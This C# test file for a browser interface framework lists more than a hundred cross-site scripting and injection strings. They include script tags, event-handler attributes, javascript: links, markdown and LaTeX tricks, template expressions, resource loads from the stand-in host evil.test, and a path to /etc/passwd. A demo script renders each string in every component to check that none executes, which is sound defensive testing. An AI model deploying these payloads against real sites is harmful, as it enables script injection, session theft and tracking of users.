namespace Interfaces.Browser.Tests;

/// <summary>Texts that run something where they are taken for markup. Each is one line; <c>\n</c> stands for a new one.</summary>
internal static class HostileText
{
    private static readonly string[] Elements =
    [
        "img src=x", "svg", "body", "video src=x", "input autofocus", "details open", "iframe src=x", "math", "marquee",
        "a href=# tabindex=0", "object data=x", "select autofocus",
    ];

    private static readonly string[] Attributes = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onanimationstart"];

    private static readonly string[] Others =
        """
        <script>alert(1)</script>
        <script src=//evil.test/a.js></script>
        <ScRiPt>alert(1)</sCrIpT>
        <script/src=data:,alert(1)></script>
        <scr<script>ipt>alert(1)</scr</script>ipt>
        </script><script>alert(1)</script>
        </textarea><script>alert(1)</script>
        </title><img src=x onerror=alert(1)>
        </template><img src=x onerror=alert(1)>
        </style><img src=x onerror=alert(1)>
        --><img src=x onerror=alert(1)><!--
        ]]><img src=x onerror=alert(1)>
        "><img src=x onerror=alert(1)>
        '><img src=x onerror=alert(1)>
        `><img src=x onerror=alert(1)>
        " onmouseover="alert(1)
        ' onmouseover='alert(1)
        " autofocus onfocus="alert(1)" x="
        x" style="background:url(//evil.test/b.png)
        "/onclick=alert(1)//
        &lt;img src=x onerror=alert(1)&gt;
        &#60;img src=x onerror=alert(1)&#62;
        &#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
        \u003cimg src=x onerror=alert(1)\u003e
        %3Cimg%20src=x%20onerror=alert(1)%3E
        <img src=x:alert(1) onerror=eval(src)>
        <img/src=x/onerror=alert(1)>
        <img src=//evil.test/pixel.png>
        <img srcset=//evil.test/pixel.png>
        <image href=//evil.test/pixel.png>
        <svg><script>alert(1)</script></svg>
        <svg><animate onbegin=alert(1) attributeName=x dur=1s>
        <svg><use href=//evil.test/a.svg#x></svg>
        <svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>
        <svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
        <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
        <math href=javascript:alert(1)>x</math>
        <form action=javascript:alert(1)><button>x</button></form>
        <button formaction=javascript:alert(1)>x</button>
        <isindex action=javascript:alert(1) type=image>
        <input type=image src=//evil.test/c.png>
        <iframe srcdoc="<script>alert(1)</script>"></iframe>
        <iframe src=javascript:alert(1)></iframe>
        <iframe src="data:text/html,<script>alert(1)</script>"></iframe>
        <object data=javascript:alert(1)></object>
        <embed src=javascript:alert(1)>
        <base href=//evil.test/>
        <meta http-equiv=refresh content="0;url=//evil.test/">
        <meta http-equiv=refresh content="0;url=javascript:alert(1)">
        <link rel=stylesheet href=//evil.test/a.css>
        <link rel=prefetch href=//evil.test/p>
        <style>@import "//evil.test/a.css";</style>
        <style>*{background:url(//evil.test/d.png)}</style>
        <p style="background:url(//evil.test/e.png)">x</p>
        <div style=position:fixed;inset:0>x</div>
        <table background=//evil.test/f.png><td>x
        <video poster=//evil.test/g.png></video>
        <audio src=//evil.test/h.mp3 autoplay></audio>
        <track src=//evil.test/i.vtt>
        <noscript><p title="</noscript><img src=x onerror=alert(1)>">
        <template shadowrootmode=open><img src=x onerror=alert(1)></template>
        <xss-element onclick=alert(1)>x</xss-element>
        <tick-timer interval=10 active></tick-timer>
        <div data-block=0 data-raise=click>x</div>
        <a href=javascript:alert(1)>x</a>
        <a href="jav&#x09;ascript:alert(1)">x</a>
        <a href="&#1;javascript:alert(1)">x</a>
        <a href=vbscript:msgbox(1)>x</a>
        [x](javascript:alert(1))
        [x](JaVaScRiPt:alert(1))
        [x](javascript&colon;alert(1))
        [x](java\nscript:alert(1))
        [x](<javascript:alert(1)>)
        [x](&#x6A;avascript:alert(1))
        [x](vbscript:msgbox(1))
        [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
        [x](//evil.test/ "onmouseover=alert(1)")
        [x]( javascript:alert(1) "title")
        [x][y]\n\n[y]: javascript:alert(1)
        <javascript:alert(1)>
        ![x](javascript:alert(1))
        ![x](//evil.test/j.png)
        ![x](https://evil.test/k.png)
        ![x](x" onerror="alert(1))
        ![x](data:image/svg+xml,<svg onload=alert(1)>)
        ![" onerror="alert(1)](x)
        `<img src=x onerror=alert(1)>`
        ```html\n<img src=x onerror=alert(1)>\n```
        ```" onclick="alert(1)\nx\n```
        ~~~<script>\nalert(1)\n~~~
        | <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |
        - <details ontoggle=alert(1) open>
        > <img src=x onerror=alert(1)>
        # <img src=x onerror=alert(1)>
        $\href{javascript:alert(1)}{x}$
        $$\url{javascript:alert(1)}$$
        $\includegraphics{//evil.test/l.png}$
        $\htmlData{onclick=alert(1)}{x}$
        $\unicode{<img src=x onerror=alert(1)>}$
        <think><img src=x onerror=alert(1)></think>
        {{constructor.constructor('alert(1)')()}}
        ${alert(1)}
        #{alert(1)}
        <%= alert(1) %>
        javascript:alert(1)
        data:text/html,<script>alert(1)</script>
        //evil.test/
        ../../../../etc/passwd<img src=x onerror=alert(1)>
        =HYPERLINK("//evil.test/","x")
        \u202Egnp.<img src=x onerror=alert(1)>
        x\u0000<img src=x onerror=alert(1)>
        """.Split('\n');

    public static IReadOnlyList<string> All { get; } =
        [.. Elements.SelectMany(element => Attributes.Select(attribute => $"<{element} {attribute}=alert(1)>")), .. Others];

    /// <summary>Says each text at every place where a demo shows text.</summary>
    public const string Script = """"
        IEnumerable<Block> Everywhere(string text)
        {
            var all = text.Split('\n').Select(line => line.Replace("\\n", "\n")).Distinct().ToArray();
            foreach (var payload in all)
            {
                yield return new Textbox(payload) { Value = payload, Info = payload, Placeholder = payload, Interactive = false };
                yield return new Markdown(payload);
                yield return new Button(payload);
            }

            yield return new Html(Markup.Of($"<p title=\"{text}\">{text}</p>"));
            yield return new Chatbot("Chat") { Value = [.. all.SelectMany(payload => new[] { ChatMessage.User(payload), ChatMessage.Assistant(payload) with { Metadata = new() { Title = payload }, Options = [payload] } })] };
            yield return new Json("JSON") { Value = all.ToDictionary(payload => payload) };
            yield return new Code("Code") { Language = CodeLanguage.Html, Value = string.Join('\n', all) };
            yield return new HighlightedText("Marked") { Value = [.. all.Select(payload => (HighlightedSpan)(payload, payload))], ShowLegend = true };
            yield return new Label("Classes") { Value = all.ToDictionary(payload => payload, payload => 0.5) };
            yield return new Dropdown(all, "Dropdown");
            yield return new MultiselectDropdown(all, "Several");
            yield return new Radio(all, "Radio");
            yield return new CheckboxGroup(all, "Checkboxes");
            yield return new MultiFileBox("Files") { Value = [.. all.Take(50).Select(payload => FileData.FromText(payload, payload + ".txt"))] };
            yield return new Gallery("Pictures") { Value = [.. all.Take(50).Select(payload => new GalleryItem(FileData.FromText("x", "x.png"), payload))] };
            yield return new Dataset<Words>([.. all.Select(payload => new Words(payload, payload))], "Samples") { SamplesPerPage = 100 };
            yield return new Dataframe<Words>("Table") { Value = [.. all.Select(payload => new Words(payload, payload))] };
            yield return new BarPlot<Bar>([.. all.Select((payload, index) => new Bar(payload, index))], x: bar => bar.Name, y: bar => bar.Height) { Title = all[0], XTitle = all[^1] };
            yield return new Plot("Figure")
            {
                Value = new
                {
                    data = new[] { new { mode = "text", name = text, y = all.Select(payload => payload.Length), text = all, texttemplate = "<a href=\"%{text}\" popup=\"x=1\">x</a>%{text}" } },
                    layout = new { title = new { text = all[0] }, annotations = all.Select((payload, index) => new { text = payload, hovertext = payload, x = index, y = 1 }) },
                },
            };
            yield return new Accordion(all[0]) { new Markdown("inside") };
            yield return new Tabs { new Tab(all[0]) { new Markdown("inside") }, new Tab(all[^1]) { new Markdown("hidden") } };
        }

        record Words(string First, string Second);

        record Bar(string Name, int Height);

        async Task<string> Say(string text, Progress progress, Notices notices, CancellationToken cancellation)
        {
            foreach (var part in text.Split('\n').Chunk(8))
            {
                notices.Warning(string.Join(' ', part), title: part[0], duration: Timeout.InfiniteTimeSpan);
                progress.Report(1, 2, part[0], string.Join(' ', part));
            }

            await Task.Delay(Timeout.Infinite, cancellation);
            return "";
        }

        string Refuse(string text) => throw new UserError(text) { Title = text };

        var text = new Textbox("Text") { Lines = 2, MaxLength = 100_000 };
        var (said, refused) = (new Textbox("Said"), new Textbox("Refused"));
        var (say, refuse) = (new Button("Say"), new Button("Refuse"));
        say.Click(Say, [text], [said]);
        refuse.Click(Refuse, text, refused);

        new Blocks { text, new Row { say, refuse }, said, refused, new Markdown("The end."), new Render(Everywhere, [text]) }
        """";
}
